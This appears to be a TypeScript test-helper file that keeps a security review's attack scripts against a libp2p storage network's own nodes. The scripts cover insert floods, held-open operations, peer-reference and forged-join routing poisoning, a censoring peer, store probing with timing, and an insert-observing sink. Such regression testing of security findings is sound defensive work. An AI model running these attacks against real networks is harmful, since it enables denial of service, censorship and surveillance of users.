/**
 * Attack scripts of the security review (issue 11), kept as test helpers: each drives real
 * nodes the way an attacker would, with a raw libp2p peer (test/helpers/raw-peer.ts) or a
 * warren node of the attacker's, and reports what it achieved.
 */
import { pbStream } from '@libp2p/utils'
import { createServer } from 'node:net'
import type { Socket } from 'node:net'
import { Frame, FrameType, KeyType } from '../../proto/warren.js'
import type { Error as WireError } from '../../proto/warren.js'
import { ANNOUNCE_PROTOCOL, INSERT_PROTOCOL, JOIN_PROTOCOL, MAX_FRAME_BYTES, REQUEST_PROTOCOL } from '../../src/constants.js'
import { commitmentOf } from '../../src/routing/announce.js'
import { ChkType, encodeChk } from '../../src/keys/chk.js'
import { MAX_PEER_ADDRS } from '../../src/protocol/messages.js'
import { multiaddr } from '@multiformats/multiaddr'
import { randomBytes } from './seed.js'
import type { RawPeer } from './raw-peer.js'
import type { Block, Insert, PeerRef } from '../../proto/warren.js'
import type { Multiaddr } from '@multiformats/multiaddr'

/** A TCP listener on 127.0.0.1 that counts the connections made to it (and drops them). */
export interface Canary {
  port: number
  addr: string
  connections: () => number
  close: () => Promise<void>
}

export async function canary (): Promise<Canary> {
  return await listener((sock) => { sock.destroy() })
}

/** A TCP listener on 127.0.0.1 that counts connections and hands each to `onSocket`; closing it destroys those left. */
async function listener (onSocket: (sock: Socket) => void): Promise<Canary> {
  let n = 0
  const open = new Set<Socket>()
  const server = createServer((sock) => {
    n++
    open.add(sock)
    sock.on('error', () => {})
    sock.on('close', () => { open.delete(sock) })
    onSocket(sock)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const port = (server.address() as { port: number }).port
  return {
    port,
    addr: `/ip4/127.0.0.1/tcp/${port}`,
    connections: () => n,
    close: async () => {
      for (const sock of open) sock.destroy()
      await new Promise<void>((resolve) => server.close(() => { resolve() }))
    }
  }
}

/** A genuine CHK block of `payload` (random 32 KiB-block content by default) and its routing key. */
export function chkBlock (payload: Uint8Array = randomBytes(100)): { key: Uint8Array<ArrayBuffer>, block: Block } {
  const c = encodeChk(ChkType.DATA, payload)
  return { key: c.routingKey.bytes as Uint8Array<ArrayBuffer>, block: { type: KeyType.CHK, data: c.block, pubkey: new Uint8Array(), signature: new Uint8Array(), headers: new Uint8Array() } }
}

/** How one insert of a flood ended: stored, or refused with an ERROR code (or another frame type). */
export type InsertOutcome = { stored: true } | { stored: false, frame: FrameType, code?: WireError.Code, message?: string }

/**
 * One complete insert of a genuine block by the raw peer `evil` at `target`, HTL 0 (stored
 * there only): INSERT, then on ALL_CLEAR the block.
 */
export async function rawInsert (evil: RawPeer, target: Multiaddr, id: bigint, b = chkBlock(), source: WirePeerRef = { peerId: evil.peerId.toMultihash().bytes, multiaddrs: [] }): Promise<InsertOutcome> {
  const s = await evil.dialProtocol(target, INSERT_PROTOCOL)
  const pb = pbStream(s, { maxDataLength: MAX_FRAME_BYTES }).pb(Frame)
  try {
    await pb.write({ type: FrameType.INSERT, insert: { id, key: b.key, htl: 0, source } })
    const ac = await pb.read({ signal: AbortSignal.timeout(10_000) })
    if (ac.type !== FrameType.ALL_CLEAR) return { stored: false, frame: ac.type, code: ac.error?.code, message: ac.error?.message }
    await pb.write({ type: FrameType.INSERT_DATA, insertData: { block: b.block } })
    const f = await pb.read({ signal: AbortSignal.timeout(10_000) })
    if (f.type === FrameType.INSERT_STORED) return { stored: true }
    return { stored: false, frame: f.type, code: f.error?.code, message: f.error?.message }
  } finally {
    s.abort(new Error('insert done'))
  }
}

/** Finding 4: `count` inserts of fresh blocks by one peer, `parallel` at a time; the outcomes in order. */
export async function insertFlood (evil: RawPeer, target: Multiaddr, count: number, parallel = 8, firstId = 1n): Promise<InsertOutcome[]> {
  const out: InsertOutcome[] = []
  let next = 0
  await Promise.all(Array.from({ length: parallel }, async () => {
    while (next < count) {
      const i = next++
      out[i] = await rawInsert(evil, target, firstId + BigInt(i), chkBlock(randomBytes(32 * 1024 - 64)))
    }
  }))
  return out
}

/**
 * Hold `n` operations open at `target` from the raw peer `evil`: INSERTs (HTL 0) whose data
 * never follows. Returns each answer's frame type (ALL_CLEAR: held; ERROR: refused, with its
 * code) and a function that lets them all go.
 */
export async function holdInserts (evil: RawPeer, target: Multiaddr, n: number, firstId: bigint): Promise<{ answers: Array<{ type: FrameType, code?: WireError.Code, message?: string }>, release: () => void }> {
  const streams = await Promise.all(Array.from({ length: n }, async () => await evil.dialProtocol(target, INSERT_PROTOCOL)))
  const answers = []
  for (const [i, s] of streams.entries()) {
    const pb = pbStream(s).pb(Frame)
    await pb.write({ type: FrameType.INSERT, insert: { id: firstId + BigInt(i), key: randomBytes(32), htl: 0, source: { peerId: evil.peerId.toMultihash().bytes, multiaddrs: [] } } })
    const f = await pb.read({ signal: AbortSignal.timeout(10_000) })
    answers.push({ type: f.type, code: f.error?.code, message: f.error?.message })
  }
  return { answers, release: () => { for (const s of streams) s.abort(new Error('attack over')) } }
}

type WirePeerRef = { peerId: Uint8Array<ArrayBuffer>, multiaddrs: Array<Uint8Array<ArrayBuffer>> }

/** A fresh peer ID: the identity multihash of a random Ed25519 public key (0x00 0x24, then the key's protobuf). */
function freshPeerId (): Uint8Array<ArrayBuffer> {
  return new Uint8Array([0x00, 0x24, 0x08, 0x01, 0x12, 0x20, ...randomBytes(32)])
}

/** A public TCP address, /ip4/198.51.<i>.<random>/tcp/<1024 + i>. */
function publicAddr (i: number): Multiaddr {
  return multiaddr(`/ip4/198.51.${i}.${1 + (randomBytes(1)[0] % 250)}/tcp/${1024 + i}`)
}

/** The shortest useful peer reference: a fresh peer with one public TCP address. */
export function shortPeerRef (): WirePeerRef {
  return { peerId: freshPeerId(), multiaddrs: [publicAddr(0).bytes] }
}

/**
 * The longest peer reference the wire allows: a fresh peer with MAX_PEER_ADDRS public TCP
 * addresses padded to the byte limit (a long /http-path after /tcp).
 */
export function longPeerRef (): WirePeerRef {
  const multiaddrs = Array.from({ length: MAX_PEER_ADDRS }, (_, i) => {
    const base = publicAddr(i).toString()
    let path = 'x'.repeat(240)
    while (multiaddr(`${base}/http-path/${path}`).bytes.length > 256) path = path.slice(1)
    return multiaddr(`${base}/http-path/${path}`).bytes
  })
  return { peerId: freshPeerId(), multiaddrs }
}

/** Make `target` learn `count` fresh peers named by `ref()` (inserts at HTL 0 whose data never follows). */
export async function peerRefFlood (evil: RawPeer, target: Multiaddr, count: number, firstId: bigint, ref: () => WirePeerRef, parallel = 8): Promise<void> {
  let next = 0
  await Promise.all(Array.from({ length: parallel }, async () => {
    while (next < count) {
      const i = next++
      const s = await evil.dialProtocol(target, INSERT_PROTOCOL)
      const pb = pbStream(s).pb(Frame)
      await pb.write({ type: FrameType.INSERT, insert: { id: firstId + BigInt(i), key: randomBytes(32), htl: 0, source: ref() } })
      await pb.read({ signal: AbortSignal.timeout(10_000) })
      s.abort(new Error('never sending the data'))
    }
  }))
}

/** One REQUEST (HTL 0) by the raw peer `evil` at `target`; the answer frame. */
export async function rawRequest (evil: RawPeer, target: Multiaddr, id: bigint, key: Uint8Array<ArrayBuffer>): Promise<Frame> {
  const s = await evil.dialProtocol(target, REQUEST_PROTOCOL)
  try {
    const pb = pbStream(s, { maxDataLength: MAX_FRAME_BYTES }).pb(Frame)
    await pb.write({ type: FrameType.REQUEST, request: { id, key, htl: 0 } })
    return await pb.read({ signal: AbortSignal.timeout(10_000) })
  } finally {
    s.abort(new Error('request done'))
  }
}

/**
 * An INSERT frame an observer received, the peer that sent it, and the time from the
 * observer's ALL_CLEAR to the sender's INSERT_DATA (ms; the data phase's timing channel).
 */
export interface ObservedInsert { from: string, insert: Insert, dataAfterMs?: number }

/**
 * Finding 3: a raw peer made a sink on insert paths. It speaks the request and insert
 * protocols, so a node it connects to takes it for a neighbour and routes to it: it records
 * every INSERT (and who sent it), accepts it (ALL_CLEAR, the data, INSERT_STORED, naming no
 * storer) and answers every REQUEST with DATA_NOT_FOUND. Returns the live list of INSERTs.
 */
export async function observeInserts (peer: RawPeer): Promise<ObservedInsert[]> {
  const seen: ObservedInsert[] = []
  await peer.handle(INSERT_PROTOCOL, async (s, c) => {
    const pb = pbStream(s, { maxDataLength: MAX_FRAME_BYTES }).pb(Frame)
    try {
      const f = await pb.read({ signal: AbortSignal.timeout(10_000) })
      if (f.insert === undefined) return
      const o: ObservedInsert = { from: c.remotePeer.toString(), insert: f.insert }
      seen.push(o)
      await pb.write({ type: FrameType.ALL_CLEAR, allClear: { depth: 1, remainingHtl: 0, hops: 0 } })
      const t0 = performance.now()
      await pb.read({ signal: AbortSignal.timeout(10_000) })
      o.dataAfterMs = performance.now() - t0
      await pb.write({ type: FrameType.INSERT_STORED, insertStored: { stored: 1 } })
      await s.close()
    } catch (err: any) {
      s.abort(err)
    }
  })
  await peer.handle(REQUEST_PROTOCOL, async (s) => {
    const pb = pbStream(s, { maxDataLength: MAX_FRAME_BYTES }).pb(Frame)
    try {
      await pb.read({ signal: AbortSignal.timeout(10_000) })
      await pb.write({ type: FrameType.DATA_NOT_FOUND, dataNotFound: { hops: 0 } })
      await s.close()
    } catch (err: any) {
      s.abort(err)
    }
  })
  return seen
}

/** Does the peer reference `ref` name the peer `peerId` (by ID, or by one of its `addrs`)? */
export function namesPeer (ref: PeerRef | undefined, peerId: { toMultihash: () => { bytes: Uint8Array } }, addrs: Multiaddr[]): boolean {
  if (ref === undefined) return false
  const id = peerId.toMultihash().bytes
  if (ref.peerId.length === id.length && ref.peerId.every((b, i) => b === id[i])) return true
  const named = ref.multiaddrs.map((a) => multiaddr(a).toString())
  return addrs.some((a) => named.includes(a.toString()))
}

/** One HTL-0 probe's answer and how long it took. */
export interface Probe { found: boolean, type: FrameType, ms: number }

/**
 * Finding 6: probe `target`'s store for `keys` with HTL-0 REQUESTs (answered from the node's
 * own storage only) from the raw peer `evil`: found or not, and the time each answer took.
 */
export async function probeStore (evil: RawPeer, target: Multiaddr, keys: Array<Uint8Array<ArrayBuffer>>, firstId: bigint): Promise<Probe[]> {
  const out: Probe[] = []
  for (const [i, key] of keys.entries()) {
    const t0 = performance.now()
    const f = await rawRequest(evil, target, firstId + BigInt(i), key)
    out.push({ found: f.type === FrameType.DATA_FOUND, type: f.type, ms: performance.now() - t0 })
  }
  return out
}

/**
 * Finding 1, the censor: `evil` answers DATA_NOT_FOUND to every request (a routing-table
 * neighbour of whoever it connects to, since it speaks the request protocol) and places itself
 * at `loc` (a key's location) on each of `targets` by a forged join (HTL 0). Call before
 * connecting `evil` to the targets. Returns each join's answer frame type (ANNOUNCE_JOINED:
 * the target took the join) and a counter of the requests it answered.
 */
export async function censor (evil: RawPeer, targets: Multiaddr[], loc: number, firstId = 1n): Promise<{ joins: FrameType[], answered: () => number }> {
  let answered = 0
  await evil.handle(REQUEST_PROTOCOL, async (stream) => {
    const pb = pbStream(stream, { maxDataLength: MAX_FRAME_BYTES }).pb(Frame)
    try {
      await pb.read({ signal: AbortSignal.timeout(10_000) })
      answered++
      await pb.write({ type: FrameType.DATA_NOT_FOUND, dataNotFound: { hops: 0 } })
      await stream.close()
    } catch {
      stream.abort(new Error('censor done'))
    }
  })
  const node = { peerId: evil.peerId.toMultihash().bytes, multiaddrs: evil.getMultiaddrs().map((a) => a.bytes as Uint8Array<ArrayBuffer>) }
  const joins: FrameType[] = []
  for (const [i, t] of targets.entries()) {
    const s = await evil.dialProtocol(t, JOIN_PROTOCOL)
    const pb = pbStream(s, { maxDataLength: 4 * MAX_FRAME_BYTES }).pb(Frame)
    await pb.write({ type: FrameType.ANNOUNCE_JOIN, announceJoin: { id: firstId + BigInt(i), htl: 0, node, loc } })
    joins.push((await pb.read({ signal: AbortSignal.timeout(10_000) })).type)
    s.abort(new Error('join done'))
  }
  return { joins, answered: () => answered }
}

/** A TCP listener on 127.0.0.1 that accepts connections and never answers (a tarpit); counts them. */
export async function tarpit (): Promise<Canary> {
  return await listener(() => {})
}

/** A fresh made-up peer (nobody holds its key) at `addr`. */
export function fakePeerAt (addr: string): WirePeerRef {
  return { peerId: freshPeerId(), multiaddrs: [multiaddr(addr).bytes] }
}

/**
 * Finding 2, poisoning by joins: `count` forged joins (HTL 0), each naming a fresh made-up peer
 * at `addr` at a random location, `parallel` at a time. Returns the answers' frame types.
 */
export async function fakeJoinFlood (evil: RawPeer, target: Multiaddr, count: number, addr: string, parallel = 4, firstId = 1n): Promise<FrameType[]> {
  const out: FrameType[] = []
  let next = 0
  await Promise.all(Array.from({ length: parallel }, async () => {
    while (next < count) {
      const i = next++
      const s = await evil.dialProtocol(target, JOIN_PROTOCOL)
      const pb = pbStream(s, { maxDataLength: 4 * MAX_FRAME_BYTES }).pb(Frame)
      await pb.write({ type: FrameType.ANNOUNCE_JOIN, announceJoin: { id: firstId + BigInt(i), htl: 0, node: fakePeerAt(addr), loc: Math.random() } })
      out[i] = (await pb.read({ signal: AbortSignal.timeout(10_000) })).type
      s.abort(new Error('join done'))
    }
  }))
  return out
}

/**
 * Finding 2, poisoning by inserts: `count` complete inserts (HTL 0) of fresh blocks, each naming
 * a fresh made-up peer at `addr` as its source, `parallel` at a time.
 */
export async function fakeSourceInserts (evil: RawPeer, target: Multiaddr, count: number, addr: string, parallel = 4, firstId = 1n): Promise<InsertOutcome[]> {
  const out: InsertOutcome[] = []
  let next = 0
  await Promise.all(Array.from({ length: parallel }, async () => {
    while (next < count) {
      const i = next++
      out[i] = await rawInsert(evil, target, firstId + BigInt(i), chkBlock(), fakePeerAt(addr))
    }
  }))
  return out
}

/**
 * The low finding, announce impostor: `evil` relays a made-up announcement of `node` to
 * `target` with `fake` commitments of its own making (as if it were a later hop), and if the
 * walk goes on, reveals the seeds and reads the result. Returns the first answer's frame type
 * (ERROR: refused), the error message, and the references harvested from the result.
 * `given`: the first seeds (a signer must know the first commitment), the rest are random.
 */
export async function impostorWalk (evil: RawPeer, target: Multiaddr, node: WirePeerRef, id: bigint, fake = 2, signature?: Uint8Array<ArrayBuffer>, given: Uint8Array[] = []): Promise<{ first: FrameType, message?: string, refs: number }> {
  const seeds = [...given, ...Array.from({ length: fake - given.length }, () => randomBytes(32))] as Array<Uint8Array<ArrayBuffer>>
  const s = await evil.dialProtocol(target, ANNOUNCE_PROTOCOL)
  const pb = pbStream(s, { maxDataLength: 4 * MAX_FRAME_BYTES }).pb(Frame)
  try {
    await pb.write({ type: FrameType.ANNOUNCE, announce: { id, htl: 3, node, commitments: seeds.map((x) => commitmentOf(x) as Uint8Array<ArrayBuffer>), signature } })
    const f = await pb.read({ signal: AbortSignal.timeout(20_000) })
    if (f.type !== FrameType.ANNOUNCE_COMMIT) return { first: f.type, message: f.error?.message, refs: 0 }
    await pb.write({ type: FrameType.ANNOUNCE_REVEAL, announceReveal: { seeds } })
    const r = await pb.read({ signal: AbortSignal.timeout(20_000) })
    return { first: f.type, refs: r.announceResult?.refs.length ?? 0 }
  } finally {
    s.abort(new Error('walk done'))
  }
}
